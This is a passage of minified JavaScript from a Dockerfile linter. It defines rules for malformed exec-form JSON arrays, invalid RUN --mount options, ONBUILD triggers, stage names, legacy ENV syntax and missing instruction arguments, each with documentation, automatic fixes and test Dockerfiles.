+`,expect:[]},{name:"NONE",input:`FROM alpine
+HEALTHCHECK NONE
+`,expect:[]},{name:"continuation",input:`FROM alpine
+HEALTHCHECK --interval=5m \\
+    --timeout=3 \\
+    CMD curl -f http://localhost/ || exit 1
+`,expect:[{line:3,col:15}]}]},cf=Sx;var Mx=new Set(["RUN","CMD","ENTRYPOINT","SHELL","COPY","ADD","VOLUME","HEALTHCHECK"]),Ax=new Set(["COPY","ADD","VOLUME"]);function Nx(n){try{let e=JSON.parse(n);return Array.isArray(e)&&e.every(t=>typeof t=="string")}catch{return!1}}function Ex(n){return/^\[\s*(?:"(?:\\.|[^"\\])*"|'[^']*'|"[^"]*$)\s*(?:[,\]"']|$)/.test(n)}function Fx(n){let e="",t=0;for(;t<n.length;){let i=n[t];if(i==='"'){let r=t+1;for(;r<n.length&&n[r]!=='"';)r+=n[r]==="\\"?2:1;if(r>=n.length)return;let o=n.slice(t+1,r),a=/\\(?!["\\/bfnrt]|u[0-9a-fA-F]{4})/.test(o.replace(/\\\\/g,""));e+='"'+(a?o.replace(/\\(["\\])|\\/g,(c,l)=>l?c:"\\\\"):o)+'"',t=r+1;continue}if(i==="'"){let r=n.indexOf("'",t+1);if(r<0)return;e+=JSON.stringify(n.slice(t+1,r)),t=r+1;continue}e+=i,t++}let s=e.trimEnd();for(let i of[e,s+"]",s.replace(/,\s*\]$/,"]"),s.replace(/,\s*$/,"")+"]"])if(Nx(i))return i}var Cx={id:"InvalidJSONArray",language:"dockerfile",severity:"warning",docs:{summary:"An exec-form (JSON array) argument is not valid JSON, so the builder silently treats it as shell form.",why:"Only a valid JSON array of double-quoted strings is the exec form. `CMD ['gunicorn', 'app:app']`, a missing `]` or an unescaped Windows path (`\"C:\\app\"`) make the builder run `/bin/sh -c \"['gunicorn', \u2026\"` instead, which fails when the container starts. SHELL has no fallback and the build fails; an array of non-strings is always rejected.",bad:`FROM python:3.12-slim
+CMD ['gunicorn', '--bind', '0.0.0.0:8000', 'app:app']
+`,good:`FROM python:3.12-slim
+CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]
+`},check({model:n,report:e}){for(let t of n.instructions){if(!Mx.has(t.keyword))continue;let s=Ne(n,t);if(s.kind==="shell"||s.kind==="json")continue;let i=B(n,t),r=j(n,i.line,s.start,s.end);if(s.kind==="notStrings"){e({message:"When using JSON array syntax, arrays must be comprised of strings only",range:r,severity:"error"});continue}let o=i.line.text.slice(s.start,s.end);if(!Ex(o))continue;let a=Fx(o),c=a&&i.contiguous?[{title:"Make it a valid JSON array",preferred:!0,edits:[{range:r,newText:a}]}]:void 0,l=o.includes("'")?"JSON strings need double quotes":s.error.replace(/ in JSON at position \d+.*$/,""),u;t.keyword==="SHELL"?u=`SHELL requires a valid JSON array (${l})`:Ax.has(t.keyword)?u=`Not a valid JSON array (${l}): ${t.keyword} splits it on whitespace instead`:u=`Not a valid JSON array (${l}): ${t.keyword} runs it as a shell command instead`,e({message:u,range:r,fixes:c,severity:t.keyword==="SHELL"?"error":void 0})}},tests:[{name:"single quotes",input:`FROM python:3.12
+CMD ['python', 'app.py']
+`,expect:[{line:2,col:5,message:"double quotes"}],fixed:`FROM python:3.12
+CMD ["python", "app.py"]
+`},{name:"unterminated",input:`FROM alpine
+ENTRYPOINT ["sh", "-c"
+`,expect:[{line:2,col:12}],fixed:`FROM alpine
+ENTRYPOINT ["sh", "-c"]
+`},{name:"trailing comma",input:`FROM alpine
+RUN ["echo", "hi",]
+`,expect:[{line:2}],fixed:`FROM alpine
+RUN ["echo", "hi"]
+`},{name:"Windows path",input:`# escape=\`
+FROM mcr.microsoft.com/windows/nanoserver:ltsc2022
+CMD ["C:\\app\\run.exe"]
+`,expect:[{line:3}],fixed:`# escape=\`
+FROM mcr.microsoft.com/windows/nanoserver:ltsc2022
+CMD ["C:\\\\app\\\\run.exe"]
+`},{name:"SHELL single quotes is an error",input:`FROM alpine
+SHELL ['/bin/bash', '-c']
+`,expect:[{line:2,severity:"error"}],fixed:`FROM alpine
+SHELL ["/bin/bash", "-c"]
+`},{name:"COPY split",input:`FROM alpine
+COPY ['a b', '/c/']
+`,expect:[{line:2,message:"whitespace"}]},{name:"HEALTHCHECK CMD",input:`FROM alpine
+HEALTHCHECK CMD ['curl', '-f', 'x']
+`,expect:[{line:2,col:17}]},{name:"non-strings",input:`FROM alpine
+CMD ["sleep", 10]
+`,expect:[{line:2,severity:"error",message:"strings only"}]},{name:"missing comma",input:`FROM alpine
+CMD ["a" "b"]
+`,expect:[{line:2}]},{name:"shell test bracket",input:`FROM alpine
+RUN [ -f /etc/os-release ] && cat /etc/os-release
+RUN [ "$A" = "b" ] || exit 1
+`,expect:[]},{name:"valid forms",input:`FROM alpine
+CMD ["a", "b"]
+ENTRYPOINT []
+RUN [ "echo" , "x" ]
+VOLUME ["/data"]
+SHELL ["sh", "-c"]
+`,expect:[]},{name:"JSON over continuation",input:`FROM alpine
+CMD ["a", \\
+     "b"]
+`,expect:[]},{name:"unterminated over continuation has no fix",input:`FROM alpine
+CMD ['a', \\
+     'b']
+`,expect:[{line:2}],fixed:`FROM alpine
+CMD ['a', \\
+     'b']
+`},{name:"shell form",input:`FROM alpine
+CMD echo [x]
+`,expect:[]},{name:"heredoc",input:`FROM alpine
+RUN <<EOF
+["not", json
+EOF
+`,expect:[]}]},lf=Cx;var nl=["bind","cache","tmpfs","secret","ssh"],uf=["shared","private","locked"],pf=["type","from","source","src","target","dst","destination","readonly","ro","readwrite","rw","required","size","id","sharing","mode","uid","gid","env"],Lx=/^(1|t|T|TRUE|true|True|0|f|F|FALSE|false|False)$/;function Dx(n){let e=[],t=0;for(;;){let s=t,i="";if(n[t]==='"'){for(t++;;){if(t>=n.length)return'extraneous or missing " in quoted-field';if(n[t]==='"'){if(n[t+1]==='"'){i+='"',t+=2;continue}t++;break}i+=n[t++]}if(t<n.length&&n[t]!==",")return'extraneous or missing " in quoted-field'}else for(;t<n.length&&n[t]!==",";){if(n[t]==='"')return'bare " in non-quoted-field';i+=n[t++]}if(e.push({text:i,start:s,end:t}),t>=n.length)return e;t++}}var Tx={id:"InvalidMount",language:"dockerfile",severity:"error",docs:{summary:"A `RUN --mount` has an unknown type or option, or an option its type does not take.",why:"`--mount` is a comma-separated list: `type=bind|cache|tmpfs|secret|ssh` plus options per type (`target`, `source`, `from`, `id`, `sharing=shared|private|locked`, `mode`, `uid`, `gid`, `required`, `size`). The builder rejects unknown keys and options the type does not take; a cache mount without `target` lands on the working directory.",bad:`FROM python:3.12-slim
+RUN --mount=type=cache,taget=/root/.cache/pip pip install flask
+`,good:`FROM python:3.12-slim
+RUN --mount=type=cache,target=/root/.cache/pip pip install flask
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="RUN")continue;let s=B(n,t);for(let i of s.flags){if(i.name!=="mount"||i.value===void 0)continue;let r=j(n,s.line,i.start,i.end),a=s.line.text.slice(i.nameEnd+1,i.end)===i.value,c=(h,y)=>a?j(n,s.line,i.nameEnd+1+h,i.nameEnd+1+y):r,l=Dx(i.value);if(typeof l=="string"){e({message:`Invalid --mount: ${l}`,range:r});continue}let u="bind",p=!0;for(let h of l){let y=h.text.indexOf("=");if(y>=0&&h.text.slice(0,y).toLowerCase()==="type"){let w=h.text.slice(y+1).toLowerCase();u=w,p=!w.includes("$")}}let d=new Map,f=!1,m=(h,y,w)=>{f=!0,e({message:`Invalid --mount: ${h}`,range:y,fixes:w})};for(let h of l){let y=h.text.indexOf("="),w=(y>=0?h.text.slice(0,y):h.text).toLowerCase(),k=y>=0?h.text.slice(y+1):void 0,v=c(h.start,h.start+(y>=0?y:h.text.length)),O=c(h.start+y+1,h.end);if(!pf.includes(w)){if(!h.text)continue;let M=be(w,pf);m(`unexpected key '${w}'${M?` (did you mean ${M}?)`:""}`,v,M&&a?[{title:`Change to ${M}`,preferred:!0,edits:[{range:v,newText:M}]}]:void 0);continue}if(d.set(w,k??""),k===void 0){if(["readonly","ro","readwrite","rw"].includes(w))continue;if(w==="required"){p&&u!=="secret"&&u!=="ssh"&&m(`'required' is only for secret and ssh mounts, not ${u}`,v);continue}m(`'${h.text}' must be a key=value pair`,v);continue}if(w==="from"&&k.includes("$")){m("'from' doesn't support variable expansion, define an alias stage instead",O);continue}if(p&&(w==="required"&&u!=="secret"&&u!=="ssh"?m(`'required' is only for secret and ssh mounts, not ${u}`,v):w==="size"&&u!=="tmpfs"?m(`'size' is only for tmpfs mounts, not ${u}`,v):w==="sharing"&&u!=="cache"?m(`'sharing' is only for cache mounts, not ${u}`,v):(w==="mode"||w==="uid"||w==="gid")&&!["secret","ssh","cache"].includes(u)?m(`'${w}' is not allowed for ${u} mounts`,v):w==="env"&&u!=="secret"?m(`'env' is only for secret mounts, not ${u}`,v):w==="from"&&u==="secret"&&m("a secret mount has no from",v)),k.includes("$"))continue;let R=k.toLowerCase();switch(w){case"type":if(!nl.includes(R)){let M=be(R,nl);m(`unsupported mount type "${k}"${M?` (did you mean ${M}?)`:""}; use ${nl.join(", ")}`,O,M&&a?[{title:`Change to ${M}`,preferred:!0,edits:[{range:O,newText:M}]}]:void 0),p=!1}break;case"sharing":uf.includes(R)||m(`unsupported sharing value "${k}"; use ${uf.join(", ")}`,O);break;case"readonly":case"ro":case"readwrite":case"rw":case"required":Lx.test(k)||m(`invalid value for ${w}: ${k}`,O);break;case"mode":/^[0-7]+$/.test(k)||m(`invalid value ${k} for mode (octal, e.g. 0600)`,O);break;case"uid":case"gid":/^\d+$/.test(k)||m(`invalid value ${k} for ${w} (a number)`,O);break;case"size":/^\d+(\.\d+)?\s*([kmgtp]i?b?|b)?$/i.test(k)||m(`invalid value for size: ${k}`,O);break}}if(f||!p)continue;let g=d.get("target")??d.get("dst")??d.get("destination");if(u==="secret"){let h=d.get("source")??d.get("src");!h&&!g&&!d.get("id")&&!d.get("env")?m("a secret mount needs id= (or target=)",r):h&&d.get("id")&&m("a secret mount can't set both source and id",r)}else(u==="cache"||u==="tmpfs")&&!g&&e({message:`Invalid --mount: a ${u} mount without target= is mounted over the working directory`,range:r,severity:"warning"})}}},tests:[{name:"misspelt key",input:`FROM alpine
+RUN --mount=type=cache,taget=/root/.cache echo
+`,expect:[{line:2,col:24,message:"did you mean target?"}],fixed:`FROM alpine
+RUN --mount=type=cache,target=/root/.cache echo
+`},{name:"unknown type",input:`FROM alpine
+RUN --mount=type=cahce,target=/x echo
+`,expect:[{line:2,col:18,message:"did you mean cache?"}],fixed:`FROM alpine
+RUN --mount=type=cache,target=/x echo
+`},{name:"cache without target",input:`FROM alpine
+RUN --mount=type=cache,id=pip echo
+`,expect:[{line:2,message:"target",severity:"warning"}]},{name:"bind without target mounts over WORKDIR",input:`FROM alpine
+WORKDIR /work
+RUN --mount=from=0 tar czf /out.tgz .
+RUN --mount=source=. ls
+`,expect:[]},{name:"sharing value",input:`FROM alpine
+RUN --mount=type=cache,target=/x,sharing=exclusive echo
+`,expect:[{line:2,message:"sharing value"}]},{name:"sharing on bind",input:`FROM alpine
+RUN --mount=type=bind,target=/x,sharing=locked echo
+`,expect:[{line:2,message:"only for cache"}]},{name:"required on cache",input:`FROM alpine
+RUN --mount=type=cache,target=/x,required echo
+`,expect:[{line:2,message:"required"}]},{name:"mode on bind",input:`FROM alpine
+RUN --mount=type=bind,target=/x,mode=0644 echo
+`,expect:[{line:2,message:"mode"}]},{name:"mode not octal",input:`FROM alpine
+RUN --mount=type=secret,id=x,mode=0999 echo
+`,expect:[{line:2,message:"octal"}]},{name:"size on cache",input:`FROM alpine
+RUN --mount=type=cache,target=/x,size=1g echo
+`,expect:[{line:2,message:"size"}]},{name:"secret without id",input:`FROM alpine
+RUN --mount=type=secret,required echo
+`,expect:[{line:2,message:"needs id"}]},{name:"secret with from",input:`FROM alpine
+RUN --mount=type=secret,id=a,from=b echo
+`,expect:[{line:2,message:"no from"}]},{name:"bare key",input:`FROM alpine
+RUN --mount=type=bind,target=/x,cached echo
+`,expect:[{line:2,message:"unexpected key"}]},{name:"from with variable",input:`FROM alpine
+ARG S=x
+RUN --mount=from=$S,target=/x echo
+`,expect:[{line:3,message:"variable expansion"}]},{name:"bad bool",input:`FROM alpine
+RUN --mount=type=bind,target=/x,rw=yes echo
+`,expect:[{line:2,message:"invalid value for rw"}]},{name:"bare quote",input:`FROM alpine
+RUN --mount='type=bind,target=/x"y' echo
+`,expect:[{line:2,message:'bare "'}]},{name:"valid mounts",input:`FROM alpine AS deps
+FROM alpine
+RUN --mount=type=cache,target=/root/.cache/pip,sharing=locked,id=pip,mode=0755,uid=1000,gid=1000 echo
+RUN --mount=type=bind,from=deps,source=/out,target=/in,rw echo
+RUN --mount=type=bind,src=.,dst=/src,readonly=false echo
+RUN --mount=type=tmpfs,target=/tmp,size=512m echo
+RUN --mount=type=secret,id=npmrc,target=/root/.npmrc,required=true,mode=0400 echo
+RUN --mount=type=secret,id=token,env=TOKEN echo
+RUN --mount=type=ssh echo
+RUN --mount=type=ssh,id=default,required echo
+RUN --mount=type=cache,target=/x,from=deps,source=/cache echo
+RUN --mount=TYPE=CACHE,TARGET=/x echo
+`,expect:[]},{name:"variables",input:`FROM alpine
+ARG T=/x
+RUN --mount=type=cache,target=$T,sharing=\${SHARE} echo
+`,expect:[]},{name:"quoted csv field",input:`FROM alpine
+RUN --mount="type=bind,target=/a b" echo
+`,expect:[]},{name:"no mount",input:`FROM alpine
+RUN echo --mount=type=foo
+`,expect:[]},{name:"heredoc",input:`FROM alpine
+RUN --mount=type=cache,target=/x <<EOF
+echo
+EOF
+`,expect:[]}]},df=Tx;var jx={id:"InvalidOnbuild",language:"dockerfile",severity:"error",docs:{summary:"An ONBUILD trigger is ONBUILD, FROM or MAINTAINER (rejected), or not an instruction at all.",why:"`ONBUILD ONBUILD`, `ONBUILD FROM` and `ONBUILD MAINTAINER` stop `docker build`. A trigger that is not an instruction builds fine here but breaks every image built FROM this one.",bad:`FROM python:3.12-slim
+ONBUILD ONBUILD COPY requirements.txt /app/
+`,good:`FROM python:3.12-slim
+ONBUILD COPY requirements.txt /app/
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="ONBUILD")continue;let s=B(n,t),i=s.words[0];if(!i)continue;let r=i.raw.toUpperCase(),o=j(n,s.line,i.start,i.end);if(r==="ONBUILD"){let a=s.words[1],c=a?[{title:"Remove the repeated ONBUILD",preferred:!0,edits:[{range:j(n,s.line,i.start,a.start),newText:""}]}]:void 0;e({message:"Chaining ONBUILD via `ONBUILD ONBUILD` isn't allowed",range:o,fixes:c})}else if(r==="FROM"||r==="MAINTAINER")e({message:`${r} isn't allowed as an ONBUILD trigger`,range:o});else if(!Ve(r)){let a=/^[A-Za-z]+$/.test(i.raw)?be(r,ls):void 0;e({message:`Unknown ONBUILD trigger ${r}${a?` (did you mean ${a}?)`:""}: builds FROM this image will fail`,range:o,severity:"warning",fixes:a?[{title:`Change to ${a}`,preferred:!0,edits:[{range:o,newText:a}]}]:void 0})}}},tests:[{name:"ONBUILD ONBUILD",input:`FROM alpine
+ONBUILD ONBUILD RUN echo
+`,expect:[{line:2,col:9,message:"Chaining"}],fixed:`FROM alpine
+ONBUILD RUN echo
+`},{name:"ONBUILD FROM",input:`FROM alpine
+ONBUILD FROM alpine
+`,expect:[{line:2,message:"FROM isn't allowed"}]},{name:"ONBUILD maintainer",input:`FROM alpine
+onbuild maintainer me
+`,expect:[{line:2,message:"MAINTAINER"}]},{name:"unknown trigger",input:`FROM alpine
+ONBUILD COPPY . /app
+`,expect:[{line:2,severity:"warning",message:"did you mean COPY?"}],fixed:`FROM alpine
+ONBUILD COPY . /app
+`},{name:"valid triggers",input:`FROM alpine
+ONBUILD COPY --from=builder . /app
+ONBUILD RUN <<EOF
+echo hi
+EOF
+ONBUILD run echo
+ONBUILD \\
+  ADD . /src
+`,expect:[]},{name:"empty ONBUILD",input:`FROM alpine
+ONBUILD
+`,expect:[]}]},ff=jx;var gf=/^[a-z][a-z0-9-_.]*$/;function _x(n){let e=n.toLowerCase().replace(/[^a-z0-9-_.]+/g,"-").replace(/^-+|-+$/g,"");return/^[a-z]/.test(e)||(e="stage-"+e),gf.test(e)?e:"stage"}var $x={id:"InvalidStageName",language:"dockerfile",severity:"error",docs:{summary:"A stage name after `AS` does not match the builder's grammar.",why:"Stage names must start with a letter and contain only letters, digits, `-`, `_` and `.` (`invalid name for build stage`). Names cannot use variables and cannot be just a number, which would clash with stage indexes.",bad:`FROM node:22 AS 1st-build
+RUN npm ci
+FROM nginx:1.27
+COPY --from=1st-build /app/dist /usr/share/nginx/html
+`,good:`FROM node:22 AS stage-1st-build
+RUN npm ci
+FROM nginx:1.27
+COPY --from=stage-1st-build /app/dist /usr/share/nginx/html
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="FROM")continue;let s=B(n,t);if(s.words.length!==3||s.words[1].raw.toLowerCase()!=="as")continue;let i=s.words[2],r=i.raw;if(gf.test(r.toLowerCase()))continue;let o=j(n,s.line,i.start,i.end),a=[],c=_x(r),l=n.stages.some(u=>u.name?.toLowerCase()===c);if(!r.includes("$")&&!l){a.push({range:o,newText:c});for(let u of n.instructions){if(u.index<=t.index)continue;let p=B(n,u);if(u.keyword==="FROM"&&p.words[0]?.raw.toLowerCase()===r.toLowerCase())a.push({range:j(n,p.line,p.words[0].start,p.words[0].end),newText:c});else if(u.keyword==="COPY"){let d=p.flags.find(f=>f.name==="from"&&f.value?.toLowerCase()===r.toLowerCase());d&&a.push({range:j(n,p.line,d.nameEnd+1,d.end),newText:c})}}}e({message:`Invalid name for build stage: "${r}", name can't start with a number or contain symbols`,range:o,fixes:a.length?[{title:`Rename the stage to ${c}`,preferred:!0,edits:a}]:void 0})}},tests:[{name:"starts with a digit, references renamed",input:`FROM alpine AS 1build
+RUN echo
+FROM alpine
+COPY --from=1build /a /a
+FROM 1build AS again
+`,expect:[{line:1,col:16,message:"1build"}],fixed:`FROM alpine AS stage-1build
+RUN echo
+FROM alpine
+COPY --from=stage-1build /a /a
+FROM stage-1build AS again
+`},{name:"symbols",input:`FROM alpine AS my@stage
+`,expect:[{line:1}],fixed:`FROM alpine AS my-stage
+`},{name:"variable",input:`ARG N=x
+FROM alpine AS \${N}
+`,expect:[{line:2,message:"${N}"}]},{name:"number",input:`FROM alpine AS 0
+`,expect:[{line:1}]},{name:"valid names any case",input:`FROM alpine AS Build_1.x-y
+FROM alpine as b
+`,expect:[]},{name:"no stage name",input:`FROM alpine
+FROM alpine AS
+`,expect:[]},{name:"over continuation",input:`FROM alpine \\
+  AS build
+`,expect:[]}]},mf=$x;var hf=U(Ye());function Ix(n,e){for(let t=n;t;t=t.parent)if(t.stage.instructions.some(s=>s.keyword==="SHELL"&&s.index<e))return!0;return!1}var Px={id:"JSONArgsRecommended",language:"dockerfile",severity:"warning",compat:{buildkit:"JSONArgsRecommended",hadolint:"DL3025"},docs:{summary:"CMD and ENTRYPOINT should use the JSON (exec) form (unless the stage sets a custom SHELL).",why:"In shell form the command runs as a child of `/bin/sh -c`, which does not pass on signals: `docker stop` waits for its timeout and then kills the process, so a gunicorn or Flask server never shuts down cleanly. The exec form runs the process directly as PID 1.",bad:`FROM python:3.12-slim
+CMD gunicorn --bind 0.0.0.0:8000 app:app
+`,good:`FROM python:3.12-slim
+CMD ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"]
+`},check({model:n,report:e}){let t=hn(n).byStage;for(let s of n.instructions){if(s.keyword!=="CMD"&&s.keyword!=="ENTRYPOINT"||s.stage&&Ix(t[s.stage.index],s.index)||s.node instanceof hf.JSONInstruction&&s.node.getJSONStrings().length>0)continue;let i=s.node.getArgumentsRange();if(!i||(s.node.getRawArgumentsContent()??"").trimStart().startsWith("["))continue;let o=vn(s.node.getArgumentsContent()??""),a=o?[{title:`Convert ${s.keyword} to exec form`,preferred:!0,edits:[{range:i,newText:JSON.stringify(o).replace(/","/g,'", "')}]}]:void 0;e({message:`JSON arguments recommended for ${s.keyword} to prevent unintended behavior related to OS signals`,range:s.range,fixes:a})}},tests:[{name:"shell-form CMD",input:`FROM scratch
+CMD echo hi
+`,expect:[{line:2,col:1}],fixed:`FROM scratch
+CMD ["echo", "hi"]
+`},{name:"shell-form ENTRYPOINT",input:`FROM scratch
+ENTRYPOINT gunicorn app:app
+`,expect:[{line:2,message:"ENTRYPOINT"}]},{name:"exec form is fine",input:`FROM scratch
+CMD ["echo", "hi"]
+ENTRYPOINT ["/bin/sh"]
+`,expect:[]},{name:"shell features get no automatic fix",input:`FROM scratch
+CMD echo $HOME && ls
+`,expect:[{line:2}],fixed:`FROM scratch
+CMD echo $HOME && ls
+`},{name:"quoted words are unquoted in exec form",input:`FROM scratch
+CMD gunicorn -b '0.0.0.0:8000' app:app
+`,expect:[{line:2}],fixed:`FROM scratch
+CMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]
+`},{name:"continuation lines",input:`FROM scratch
+CMD gunicorn \\
+  app:app
+`,expect:[{line:2}],fixed:`FROM scratch
+CMD ["gunicorn", "app:app"]
+`},{name:"custom SHELL",input:`FROM scratch
+SHELL ["/usr/bin/customshell"]
+CMD mycommand
+`,expect:[]},{name:"custom SHELL inherited from the parent stage",input:`FROM scratch AS base
+SHELL ["/bin/bash", "-c"]
+FROM base
+ENTRYPOINT mycommand
+`,expect:[]},{name:"SHELL after the CMD does not count",input:`FROM scratch
+CMD mycommand
+SHELL ["/bin/bash", "-c"]
+`,expect:[{line:2}]},{name:"check=skip",input:`# check=skip=JSONArgsRecommended
+FROM scratch
+CMD echo hi
+`,expect:[]},{name:"hadolint ignore",input:`FROM scratch
+# hadolint ignore=JSONArgsRecommended
+CMD echo hi
+`,expect:[]}]},yf=Px;function qx(n,e,t){if(t==="")return`${e}=""`;if(nr(t,n.escape).length===1)return`${e}=${t}`;if(!(/["'`\\]/.test(t)||t.includes(n.escape)))return`${e}="${t}"`}function Ux(n,e,t,s){let i=e.node.getArgumentsRange();if(!i||e.range.start.line!==e.range.end.line)return;let r=qx(n,t,s);if(r!==void 0)return[{title:`Use ${e.keyword} ${r}`,preferred:!0,edits:[{range:i,newText:r}]}]}var Hx={id:"LegacyKeyValueFormat",language:"dockerfile",severity:"warning",compat:{buildkit:"LegacyKeyValueFormat"},docs:{summary:"ENV and LABEL should use `key=value`, not the legacy `key value` form.",why:"In the legacy form everything after the first space is the value, so `ENV A 1 B 2` sets one variable `A` to `1 B 2`; the form is deprecated and reported by `docker build --check`.",bad:`FROM python:3.12-slim
+ENV PYTHONUNBUFFERED 1
+`,good:`FROM python:3.12-slim
+ENV PYTHONUNBUFFERED=1
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="ENV"&&t.keyword!=="LABEL")continue;let{pairs:s,legacy:i}=Be(n,t);if(!i||s.length===0)continue;let{key:r,value:o}=s[0];e({message:`"${t.keyword} key=value" should be used instead of legacy "${t.keyword} key value" format`,range:t.range,fixes:Ux(n,t,r,o??"")})}},tests:[{name:"ENV and LABEL",input:`FROM scratch
+ENV testkey value
+LABEL key value
+`,expect:[{line:2,message:'"ENV key=value" should be used'},{line:3,message:"LABEL"}],fixed:`FROM scratch
+ENV testkey=value
+LABEL key=value
+`},{name:"spaces in the value are quoted",input:`FROM scratch
+ENV MSG hello  world $USER
+`,expect:[{line:2}],fixed:`FROM scratch
+ENV MSG="hello  world $USER"
+`},{name:"a quoted value stays as written",input:`FROM scratch
+ENV MSG "hello world"
+`,expect:[{line:2}],fixed:`FROM scratch
+ENV MSG="hello world"
+`},{name:"mixed quotes get no automatic fix",input:`FROM scratch
+ENV MSG "a b" c
+`,expect:[{line:2}],fixed:`FROM scratch
+ENV MSG "a b" c
+`},{name:"key=value forms",input:`FROM scratch
+ENV testkey=value a="b c"
+LABEL key=value
+ARG A B
+`,expect:[]},{name:"continuation",input:`FROM scratch
+ENV A \\
+  1
+`,expect:[{line:2}]},{name:"local check=skip",input:`FROM scratch
+# check=skip=LegacyKeyValueFormat
+ENV testkey value
+`,expect:[]}]},bf=Hx;var Yx={id:"MaintainerDeprecated",language:"dockerfile",severity:"warning",compat:{buildkit:"MaintainerDeprecated",hadolint:"DL4000"},docs:{summary:"MAINTAINER is deprecated; use `LABEL org.opencontainers.image.authors=\u2026`.",why:"MAINTAINER has been deprecated since Docker 1.13 and only fills a legacy image field; the OCI authors label is what registries and tools read.",bad:`FROM alpine:3.19
+MAINTAINER Jane Doe <jane@example.org>
+`,good:`FROM alpine:3.19
+LABEL org.opencontainers.image.authors="Jane Doe <jane@example.org>"
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="MAINTAINER")continue;let s=t.node.getArgumentsRange(),i=t.range.start.line===t.range.end.line,r=(t.node.getRawArgumentsContent()??"").trim(),o=n.escape,a=r.replace(/[\\`"$]/g,l=>l==='"'||l==="$"||l===o?o+l:l),c=i&&s&&r?[{title:"Replace with LABEL org.opencontainers.image.authors",preferred:!0,edits:[{range:{start:t.range.start,end:s.end},newText:`LABEL org.opencontainers.image.authors="${a}"`}]}]:void 0;e({message:"Maintainer instruction is deprecated in favor of using label",range:t.range,fixes:c})}},tests:[{name:"MAINTAINER",input:`FROM scratch
+MAINTAINER me@example.org
+`,expect:[{line:2,col:1}],fixed:`FROM scratch
+LABEL org.opencontainers.image.authors="me@example.org"
+`},{name:"quotes and dollars are escaped",input:`FROM scratch
+maintainer Jane "JD" Doe $5
+`,expect:[{line:2}],fixed:`FROM scratch
+LABEL org.opencontainers.image.authors="Jane \\"JD\\" Doe \\$5"
+`},{name:"label is fine",input:`FROM scratch
+LABEL org.opencontainers.image.authors="me@example.org"
+`,expect:[]},{name:"check=skip",input:`FROM scratch
+# check=skip=MaintainerDeprecated
+MAINTAINER me@example.org
+`,expect:[]}]},wf=Yx;function Bx(n,e,t){let s=B(n,e),{words:i,line:r}=s,o=(u,p=u)=>j(n,r,i[u].start,i[p].end),a=e.keywordRange,c=e.keyword,l=u=>t({message:`${c} requires ${u}`,range:a});switch(c){case"FROM":{let u=i.length;if(u===0)return l("a base image: `FROM image [AS name]`");if(u===1)return;let p=i[1].raw.toLowerCase()==="as";u===2&&p?t({message:"FROM \u2026 AS requires a stage name",range:o(1)}):u===3&&!p?t({message:`FROM: the second argument must be AS, not \`${i[1].raw}\``,range:o(1)}):u!==3&&t({message:"FROM requires either one or three arguments: `FROM image [AS name]`",range:o(p?3:1,u-1)});return}case"COPY":case"ADD":{let u=Ne(n,e);if(u.kind==="notStrings")return;let p=u.kind==="json"?u.elements.length:i.length;p<2&&t({message:`${c} requires at least two arguments: one or more sources and a destination`,range:p===1&&u.kind!=="json"?o(0):a});return}case"VOLUME":{let u=Ne(n,e);if(u.kind==="notStrings")return;if(u.kind==="json"){u.elements.length===0&&l("at least one argument");for(let p of u.elements)p.value.trim()||t({message:"VOLUME path can not be an empty string",range:j(n,r,p.start,p.end)})}else i.length===0&&l("at least one argument");return}case"ARG":if(i.length===0)return l("at least one argument: `ARG NAME[=default]`");for(let u=0;u<i.length;u++)i[u].raw.startsWith("=")&&t({message:"ARG names can not be blank",range:o(u)});return;case"ENV":case"LABEL":{if(i.length===0)return l("at least one argument: `"+c+" key=value`");if(!i[0].raw.includes("=")){if(i.length<2){let u=[{title:`Give ${i[0].raw} an empty value`,edits:[{range:o(0),newText:`${i[0].raw}=""`}]}];t({message:`${c} ${i[0].raw} has no value: use \`${c} ${i[0].raw}=value\``,range:o(0),fixes:u})}return}for(let u=0;u<i.length;u++){let p=i[u].raw;p.includes("=")?p.startsWith("=")&&t({message:`${c} names can not be blank`,range:o(u)}):t({message:`${c}: can't find = in \`${p}\`; every word must be name=value`,range:o(u)})}return}case"MAINTAINER":case"EXPOSE":case"ONBUILD":i.length===0&&l("at least one argument");return;case"STOPSIGNAL":if(i.length===0)return l("exactly one argument: a signal such as SIGTERM");i.length>1&&t({message:"STOPSIGNAL requires exactly one argument",range:o(1,i.length-1)});return;case"USER":case"WORKDIR":if(i.length===0)return l(c==="USER"?"a user name or UID":"a path");i.length>1&&t({message:c==="USER"?`USER takes one argument (user[:group]); the whole \`${s.rest}\` is used as the user name`:`WORKDIR takes one path; the whole \`${s.rest}\` (with spaces) is used as the directory`,range:o(1,i.length-1),severity:"warning"});return;case"SHELL":{let u=Ne(n,e);if(u.kind==="json")u.elements.length===0&&l("at least one argument");else if(u.kind==="shell"){if(!s.rest)return l('a JSON array: `SHELL ["executable", "parameters"]`');let p=vn(s.rest),d=j(n,r,i[0].start,i[i.length-1].end);t({message:'SHELL requires the arguments to be in JSON form: `SHELL ["executable", "parameters"]`',range:d,fixes:p&&s.contiguous?[{title:"Write SHELL as a JSON array",preferred:!0,edits:[{range:d,newText:dr(p)}]}]:void 0})}return}case"HEALTHCHECK":{if(i.length===0)return l("an argument: `HEALTHCHECK [options] CMD command` or `HEALTHCHECK NONE`");let u=i[0].raw.toUpperCase();if(u==="NONE")i.length>1&&t({message:"HEALTHCHECK NONE takes no arguments",range:o(1,i.length-1)});else if(u==="CMD"){let p=Ne(n,e);(p.kind==="json"&&p.elements.length===0||i.length===1)&&t({message:"Missing command after HEALTHCHECK CMD",range:o(0)})}else{let p=o(0).start;t({message:`Unknown type \`${i[0].raw}\` in HEALTHCHECK (try CMD)`,range:o(0),fixes:[{title:"Insert CMD",preferred:!0,edits:[{range:{start:p,end:p},newText:"CMD "}]}]})}return}case"RUN":{let u=Ne(n,e);(i.length===0||u.kind==="json"&&u.elements.length===0)&&t({message:"RUN has no command",range:a,severity:"warning"});return}}}var Wx={id:"MissingArguments",language:"dockerfile",severity:"error",docs:{summary:"An instruction has missing, extra or malformed arguments that `docker build` rejects.",why:"The builder checks argument counts before running anything: `COPY app.py` has no destination, `FROM python AS` no stage name, `ENV 